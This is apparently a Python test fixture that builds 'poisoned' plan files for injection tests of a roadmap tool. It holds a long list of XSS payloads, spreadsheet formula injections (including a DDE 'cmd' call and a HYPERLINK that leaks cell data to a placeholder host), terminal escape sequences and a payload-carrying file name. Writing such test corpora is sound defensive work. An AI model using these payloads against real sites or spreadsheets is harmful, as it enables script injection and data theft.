"""Hostile text for the injection tests: payloads, and a plan with them in every text field.

Every payload that runs sets `top.__pwned` (FLAG), so a page that executed any of them
says so; payloads that only act when clicked (javascript: links) are checked by what the
page's links point to. Raw C0 control characters are not in this corpus: the reading
side refuses them in plan files (issue 12); escape sequences are carried to the terminal
tests as YAML escapes instead (`TERMINAL`).
"""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

FLAG = "top.__pwned=1"

PAYLOADS: list[str] = [
    # script elements and closing the element we are in
    f"<script>{FLAG}</script>",
    f"<SCRIPT>{FLAG}</SCRIPT>",
    f"<script src=data:text/javascript,{FLAG}></script>",
    f'"><script>{FLAG}</script>',
    f"'><script>{FLAG}</script>",
    f"</textarea><script>{FLAG}</script>",
    f"</title><script>{FLAG}</script>",
    f"</style><script>{FLAG}</script>",
    f"</pre><script>{FLAG}</script>",
    f"</script><script>{FLAG}</script>",
    f"<!--<script>-->{FLAG}<!--</script>-->",
    f"]]><script>{FLAG}</script>",
    # event handlers
    f"<img src=x onerror={FLAG}>",
    f'<img src="x" onerror="{FLAG}">',
    f"<svg onload={FLAG}>",
    f"<svg><script>{FLAG}</script></svg>",
    f"<svg><animate onbegin={FLAG} attributeName=x dur=1s>",
    f"<body onload={FLAG}>",
    f"<details open ontoggle={FLAG}>",
    f"<input autofocus onfocus={FLAG}>",
    f"<select autofocus onfocus={FLAG}>",
    f"<textarea autofocus onfocus={FLAG}>",
    f"<video><source onerror={FLAG}></video>",
    f"<audio src=x onerror={FLAG}>",
    f"<marquee onstart={FLAG}>",
    f"<iframe onload={FLAG}></iframe>",
    f'<div onmouseover="{FLAG}" style="position:fixed;inset:0">',
    f'" onmouseover="{FLAG}" x="',
    f"' onfocus='{FLAG}' autofocus x='",
    f'" autofocus onfocus="{FLAG}',
    f"<math><mtext><table><mglyph><style><img src=x onerror={FLAG}>",
    f'<noscript><p title="</noscript><img src=x onerror={FLAG}>">',
    f'<a href="#" onclick="{FLAG}">x</a>',
    # URLs with a scheme
    f"javascript:{FLAG}",
    f"JaVaScRiPt:{FLAG}",
    f" javascript:{FLAG}",
    f"[click](javascript:{FLAG})",
    f"[click](JAVASCRIPT:{FLAG})",
    f"<javascript:{FLAG}>",
    f'<a href="javascript:{FLAG}">x</a>',
    f"<iframe src=javascript:{FLAG}></iframe>",
    f'<iframe srcdoc="<script>{FLAG}</script>"></iframe>',
    f"<object data=javascript:{FLAG}></object>",
    f"<embed src=javascript:{FLAG}>",
    f"<form action=javascript:{FLAG}><button>x</button></form>",
    f"<button formaction=javascript:{FLAG}>x</button>",
    f"<base href=javascript:{FLAG}//>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{FLAG}">',
    f"![x](javascript:{FLAG})",
    f"[x](data:text/html,<script>{FLAG}</script>)",
    f"vbscript:{FLAG}",
    # CSS
    f'<div style="background:url(javascript:{FLAG})">',
    f'<div style="width:expression({FLAG})">',
    f"<style>@import 'javascript:{FLAG}';</style>",
    f"<link rel=stylesheet href=javascript:{FLAG}>",
    # templates and diagrams
    "{{7*7}}{% raw %}${7*7}#{7*7}",
    '%%{init: {"securityLevel": "loose", "theme": "dark"}}%%',
    "%%{init: {'flowchart': {'htmlLabels': true}}}%%",
    f"click A call {FLAG}()",
    f'A["<img src=x onerror={FLAG}>"]',
    # spreadsheets
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    # text direction and look-alikes
    "\u202ethgir ot tfel\u202c",
    "\u2066isolated\u2069 \u200b zero width",
    "&lt;script&gt;already escaped&lt;/script&gt;",
]

# For the terminal: escape sequences, written in a plan as YAML escapes ("\e", "\x9b").
TERMINAL = [
    "\x1b[2J\x1b[Hcleared",
    "\x1b]0;window title\x07",
    "\x1b]8;;http://example.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[31mred\x1b[0m",
    "\x9b31mcsi8",
    "bell\x07\x08backspace",
]

# Where a file name may carry a payload (no "/" and no NUL on Linux).
FILE_NAME = f"javascript:{FLAG}<img src=x onerror={FLAG}>.yaml"


def poison(data: dict[str, Any], payloads: list[str] | None = None) -> dict[str, Any]:
    """The plan's data with hostile text in every free-text field (ids and numbers kept).

    Each field gets two payloads, rotating, so over 30 tasks each payload reaches each task
    field; the long Markdown fields (narratives, section bodies, intro) get all of them.
    """
    hostile = payloads or PAYLOADS
    every = "\n\n".join(hostile)
    n = 0

    def nxt() -> str:
        nonlocal n
        n += 1
        return f"{hostile[n % len(hostile)]} {hostile[(n * 7 + 3) % len(hostile)]}"

    meta = data["meta"]
    meta["title"] = nxt()
    meta["subtitle"] = every
    meta["country"]["name"] = nxt()
    meta["authors"] = [{"name": nxt(), "organisation": nxt(), "role": nxt()}]
    meta["acknowledgements"] = [nxt(), every]
    meta["contact"] = {"email": f"{hostile[12 % len(hostile)]}@example.invalid", "subject": nxt(), "website": nxt()}
    vision = data.setdefault("vision", {})
    vision["title"], vision["intro"] = nxt(), every
    for goal in vision.get("goals") or []:
        goal["text"], goal["evidence"] = nxt(), nxt()
    if vision.get("success_rule"):
        vision["success_rule"]["text"] = nxt()
    for audience in data.get("audiences") or []:
        audience["name"], audience["description"] = nxt(), nxt()
    for stage in data["stages"]:
        stage["name"], stage["key_message"], stage["narrative"] = nxt(), nxt(), every
    for direction in data["directions"]:
        direction["name"] = nxt()
        direction["guiding_questions"] = [nxt(), nxt()]
        direction["narrative"] = every
    for task in data["tasks"]:
        task["title"] = nxt()
        task["box"]["text"] = nxt()
        task["persons_involved"] = [nxt(), nxt()]
        task["expected_results"] = [nxt(), nxt()]
        task["success_indicators"] = [nxt(), {"text": nxt(), "unit": nxt(), "baseline": nxt(), "target": 3}]
        task["international_examples"] = [nxt()]
        task["owner"] = {"name": nxt(), "organisation": nxt(), "contact": nxt()}
        task["status_note"] = nxt()
        task["comments"] = [{"date": "2025-01-01", "by": nxt(), "text": nxt()}]
    for section in data.get("sections") or []:
        section["title"], section["body"] = nxt(), every
    return data


def write_plan(path: Path, data: dict[str, Any]) -> Path:
    """JSON is YAML: every string is double-quoted with escapes, whatever it holds."""
    path.write_text(json.dumps(data, ensure_ascii=True, indent=1, default=str) + "\n", encoding="utf-8")
    return path


def hostile_plan(folder: Path, name: str = "kg.yaml", payloads: list[str] | None = None) -> Path:
    """A Kyrgyz plan with hostile text in every text field, its history included.

    The edits come first (a plan written as JSON is flow style, which the editor refuses
    to splice), then the hostile text goes into the data, history notes and values too.
    """
    from roadmap import adapt, store

    today = dt.date(2026, 11, 23)
    path = folder / name
    adapt.init(path, country="KG", start_year=2024, today=today)
    adapt.tick(path, ["DEF-1"], on="2025-06-30", note="done", today=today)
    adapt.assign(path, ["DAT-1"], owner="A. Usenova", today=today)
    adapt.add(path, direction="FIN", stage="S2", title="Crowdfunding guide", years="2-3", today=today)
    data = poison(store.load(path).data, payloads)
    hostile = payloads or PAYLOADS
    for k, entry in enumerate(data.get("history") or []):
        entry["note"] = hostile[k % len(hostile)]
        if isinstance(entry.get("new"), str) and entry.get("field") in ("title", "status_note"):
            entry["new"] = hostile[(k + 5) % len(hostile)]
        if isinstance(entry.get("new"), dict) and "name" in entry["new"]:
            entry["new"]["name"] = hostile[(k + 9) % len(hostile)]
    return write_plan(path, data)
